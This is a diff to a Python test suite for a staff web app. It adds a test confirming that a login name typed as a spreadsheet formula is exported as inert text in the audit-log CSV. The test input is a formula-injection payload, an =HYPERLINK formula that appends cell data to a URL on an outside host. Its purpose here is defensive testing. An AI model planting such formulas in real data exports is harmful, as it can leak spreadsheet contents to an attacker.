@@ -5,7 +5,9 @@ Argon2id hashes only — and an audit line for each refusal."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import re
 import stat
 import uuid
@@ -511,6 +513,20 @@ def test_the_audit_log_page_filters_and_exports(fresh: Path):
     rows = exported.content.decode("utf-8-sig").splitlines()
     assert rows[0].startswith("date (heure de Paris);qui;depuis;action")
     assert len(rows) == 2 and "accès refusé" in rows[1]
+
+
+def test_a_formula_typed_as_a_login_name_is_exported_as_text(fresh: Path):
+    """A refused login records the name typed; in the CSV export it never becomes a live formula."""
+    typed = '=HYPERLINK("http://example.org/?"&A1,"x")'
+    client = _client(fresh)
+    form = client.get("/staff/login")
+    data = {"name": typed, "password": "faux", "csrf": csrf_of(form.text), "next": "/staff/"}
+    assert client.post("/staff/login", data=data, follow_redirects=False).status_code != 303
+    log_in(client, ADMIN)
+    exported = client.get("/staff/admin/audit.csv", params={"action": "login"}).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=";") for cell in row]
+    assert "'" + typed.lower() in cells  # the name as recorded (lower case), behind the apostrophe
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
 
 
 def test_the_login_returns_to_the_page_asked_and_nowhere_else(fresh: Path):
